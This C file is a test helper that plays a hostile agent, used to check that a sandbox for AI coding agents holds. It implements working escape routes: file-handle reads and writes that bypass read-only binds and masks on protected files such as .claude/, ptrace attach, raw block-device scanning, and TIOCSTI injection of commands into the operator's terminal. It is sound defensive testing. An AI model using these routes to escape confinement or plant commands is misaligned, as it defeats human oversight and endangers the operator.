/* SPDX-License-Identifier: MIT */
/* Test helper: the hostile agent of tests/test-confine-root.sh (issue 29).
 * Each subcommand is a real route around the binds, taken the way an agent
 * would take it. Exit 0 when the route worked (printing what it read or
 * did), 1 when it was refused (stderr names the call and the errno), 2 on a
 * usage error.
 *
 *   attacker handle PATH
 *       print PATH's file handle as @TYPE:HEX (name_to_handle_at), for a
 *       later handle-read or handle-write: a handle outlives the process that
 *       took it, so refusing name_to_handle_at alone would not do.
 *   attacker handle-read MOUNTDIR DIR NAME
 *       open DIR (a path or an @TYPE:HEX handle) by its handle on the mount of
 *       MOUNTDIR, another mount of the same filesystem (a protect bind such
 *       as .claude/), then openat(dir, NAME) and print its bytes. The mask's
 *       /dev/null sits on the worktree's mount only, so the lookup reaches
 *       the real file.
 *   attacker handle-write MOUNTDIR FILE TEXT
 *       open FILE (a path or a handle; a protected file) by its handle,
 *       O_WRONLY|O_APPEND, on the writable mount of MOUNTDIR, and append
 *       TEXT and a newline: no path walk, so the read-only bind is never
 *       crossed.
 *   attacker ptrace PID
 *       PTRACE_SEIZE, PTRACE_INTERRUPT, wait for the stop, PTRACE_DETACH.
 *   attacker signal PID
 *       kill(PID, 0).
 *   attacker block DEV PATTERN
 *       open the block device DEV read-only and search it for PATTERN.
 *   attacker tiocsti TEXT
 *       type TEXT and a newline into a terminal with TIOCSTI, and read it
 *       back: on the operator's terminal, the shell would run it once the
 *       agent exits. The terminal is a new pty, the controlling one of a new
 *       session, so the kernel lets it through on its own (with
 *       dev.tty.legacy_tiocsti = 1) and EPERM can only be a filter's. */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <signal.h>
#include <termios.h>
#include <unistd.h>

#define HANDLE_MAX 128 /* MAX_HANDLE_SZ in the kernel */

/* Print "attacker: WHAT ARG: ENAME (message)" and return 1, the refusal. */
static int refused(const char *what, const char *arg) {
        int e = errno;
        const char *name = strerrorname_np(e);
        fprintf(stderr, "attacker: %s %s: %s (%s)\n", what, arg, name ? name : "?", strerror(e));
        return 1;
}

static struct file_handle *handle_alloc(void) {
        struct file_handle *h = calloc(1, sizeof(*h) + HANDLE_MAX);
        if (!h) {
                perror("attacker: calloc");
                exit(2);
        }
        h->handle_bytes = HANDLE_MAX;
        return h;
}

/* The handle of PATH, or the one spelled @TYPE:HEX; NULL (errno set) when
 * name_to_handle_at refuses. */
static struct file_handle *handle_of(const char *path) {
        struct file_handle *h = handle_alloc();
        if (path[0] == '@') {
                char *end;
                h->handle_type = (int) strtol(path + 1, &end, 10);
                if (*end != ':' || strlen(end + 1) % 2 != 0 || strlen(end + 1) / 2 > HANDLE_MAX) {
                        fprintf(stderr, "attacker: not a handle: %s\n", path);
                        exit(2);
                }
                const char *hex = end + 1;
                h->handle_bytes = (unsigned) strlen(hex) / 2;
                for (unsigned i = 0; i < h->handle_bytes; i++) {
                        char byte[3] = {hex[2 * i], hex[2 * i + 1], 0};
                        h->f_handle[i] = (unsigned char) strtoul(byte, NULL, 16);
                }
                return h;
        }
        int mount_id;
        if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0) {
                free(h);
                return NULL;
        }
        return h;
}

static int cmd_handle(const char *path) {
        struct file_handle *h = handle_of(path);
        if (!h)
                return refused("name_to_handle_at", path);
        printf("@%d:", h->handle_type);
        for (unsigned i = 0; i < h->handle_bytes; i++)
                printf("%02x", h->f_handle[i]);
        printf("\n");
        free(h);
        return 0;
}

static int open_dir(const char *path) {
        return open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
}

static int cmd_handle_read(const char *mountdir, const char *dir, const char *name) {
        struct file_handle *h = handle_of(dir);
        if (!h)
                return refused("name_to_handle_at", dir);
        int mfd = open_dir(mountdir);
        if (mfd < 0)
                return refused("open", mountdir);
        int dfd = open_by_handle_at(mfd, h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (dfd < 0)
                return refused("open_by_handle_at", dir);
        int fd = openat(dfd, name, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);
        if (fd < 0)
                return refused("openat", name);
        struct stat st;
        if (fstat(fd, &st) < 0)
                return refused("fstat", name);
        if (S_ISCHR(st.st_mode)) {
                fprintf(stderr, "attacker: openat %s: the mask held (a character device)\n", name);
                return 1;
        }
        char buf[4096];
        ssize_t n;
        while ((n = read(fd, buf, sizeof(buf))) > 0)
                fwrite(buf, 1, (size_t) n, stdout);
        if (n < 0)
                return refused("read", name);
        free(h);
        return 0;
}

static int cmd_handle_write(const char *mountdir, const char *file, const char *text) {
        struct file_handle *h = handle_of(file);
        if (!h)
                return refused("name_to_handle_at", file);
        int mfd = open_dir(mountdir);
        if (mfd < 0)
                return refused("open", mountdir);
        int fd = open_by_handle_at(mfd, h, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
                return refused("open_by_handle_at", file);
        size_t len = strlen(text);
        char *line = malloc(len + 2);
        if (!line)
                return refused("malloc", text);
        memcpy(line, text, len);
        line[len] = '\n';
        ssize_t n = write(fd, line, len + 1);
        if (n < 0)
                return refused("write", file);
        printf("appended %zd bytes to %s\n", n, file);
        free(line);
        free(h);
        return 0;
}

static pid_t pid_arg(const char *s) {
        char *end;
        long pid = strtol(s, &end, 10);
        if (*s == '\0' || *end != '\0' || pid <= 0) {
                fprintf(stderr, "attacker: not a pid: %s\n", s);
                exit(2);
        }
        return (pid_t) pid;
}

static int cmd_ptrace(const char *arg) {
        pid_t pid = pid_arg(arg);
        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
                return refused("ptrace(PTRACE_SEIZE)", arg);
        /* Attached: the route is open. Stop it and let it go again, as a
         * debugger would; the kernel would detach at our exit anyway. */
        if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
                return refused("ptrace(PTRACE_INTERRUPT)", arg);
        int status;
        if (waitpid(pid, &status, __WALL) < 0)
                return refused("waitpid", arg);
        if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0)
                return refused("ptrace(PTRACE_DETACH)", arg);
        printf("attached to %d, stopped it and detached\n", pid);
        return 0;
}

static int cmd_signal(const char *arg) {
        if (kill(pid_arg(arg), 0) < 0)
                return refused("kill(0)", arg);
        printf("may signal %s\n", arg);
        return 0;
}

static int cmd_block(const char *dev, const char *pattern) {
        int fd = open(dev, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return refused("open", dev);
        size_t plen = strlen(pattern);
        if (plen == 0 || plen > 4096) {
                fprintf(stderr, "attacker: the pattern must hold 1 to 4096 bytes\n");
                return 2;
        }
        /* Each read lands after the last plen - 1 bytes of the one before,
         * so a match across two reads is found. */
        static char buf[1 << 20];
        size_t kept = 0;
        uint64_t base = 0; /* the device offset of buf[0] */
        for (;;) {
                ssize_t n = read(fd, buf + kept, sizeof(buf) - kept);
                if (n < 0)
                        return refused("read", dev);
                if (n == 0)
                        break;
                size_t have = kept + (size_t) n;
                char *hit = memmem(buf, have, pattern, plen);
                if (hit) {
                        uint64_t at = base + (uint64_t) (hit - buf);
                        char *eol = memchr(hit, '\n', have - (size_t) (hit - buf));
                        size_t shown = eol ? (size_t) (eol - hit) : plen;
                        printf("found at offset %llu: %.*s\n", (unsigned long long) at, (int) shown, hit);
                        return 0;
                }
                kept = plen - 1 < have ? plen - 1 : have;
                memmove(buf, buf + have - kept, kept);
                base += have - kept;
        }
        fprintf(stderr, "attacker: %s: pattern not found\n", dev);
        return 1;
}

/* In the child: a session of its own, the pty its controlling terminal. */
static int tiocsti_child(const char *pts, const char *text) {
        if (setsid() < 0)
                return refused("setsid", "");
        int fd = open(pts, O_RDWR | O_CLOEXEC);
        if (fd < 0)
                return refused("open", pts);
        if (ioctl(fd, TIOCSCTTY, 0) < 0)
                return refused("ioctl(TIOCSCTTY)", pts);
        size_t len = strlen(text);
        for (size_t i = 0; i <= len; i++) {
                char c = i < len ? text[i] : '\n';
                if (ioctl(fd, TIOCSTI, &c) < 0)
                        return refused("ioctl(TIOCSTI)", pts);
        }
        char buf[4096];
        ssize_t n = read(fd, buf, sizeof(buf) - 1);
        if (n < 0)
                return refused("read", pts);
        buf[n] = 0;
        buf[strcspn(buf, "\n")] = 0;
        if (strcmp(buf, text) != 0) {
                fprintf(stderr, "attacker: read back '%s', not what was typed\n", buf);
                return 1;
        }
        printf("typed into %s and read back: %s\n", pts, buf);
        return 0;
}

static int cmd_tiocsti(const char *text) {
        int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (m < 0)
                return refused("posix_openpt", "");
        if (grantpt(m) < 0 || unlockpt(m) < 0)
                return refused("unlockpt", "");
        const char *pts = ptsname(m);
        if (!pts)
                return refused("ptsname", "");
        fflush(stdout);
        pid_t pid = fork();
        if (pid < 0)
                return refused("fork", "");
        if (pid == 0) {
                int r = tiocsti_child(pts, text);
                fflush(stdout);
                _exit(r);
        }
        int status;
        if (waitpid(pid, &status, 0) < 0)
                return refused("waitpid", "");
        return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

int main(int argc, char **argv) {
        const char *cmd = argc > 1 ? argv[1] : "";
        if (strcmp(cmd, "handle") == 0 && argc == 3)
                return cmd_handle(argv[2]);
        if (strcmp(cmd, "handle-read") == 0 && argc == 5)
                return cmd_handle_read(argv[2], argv[3], argv[4]);
        if (strcmp(cmd, "handle-write") == 0 && argc == 5)
                return cmd_handle_write(argv[2], argv[3], argv[4]);
        if (strcmp(cmd, "ptrace") == 0 && argc == 3)
                return cmd_ptrace(argv[2]);
        if (strcmp(cmd, "signal") == 0 && argc == 3)
                return cmd_signal(argv[2]);
        if (strcmp(cmd, "block") == 0 && argc == 4)
                return cmd_block(argv[2], argv[3]);
        if (strcmp(cmd, "tiocsti") == 0 && argc == 3)
                return cmd_tiocsti(argv[2]);
        fprintf(stderr, "usage: attacker handle PATH | handle-read MOUNTDIR DIR NAME | "
                        "handle-write MOUNTDIR FILE TEXT | ptrace PID | signal PID | block DEV PATTERN | "
                        "tiocsti TEXT\n");
        return 2;
}
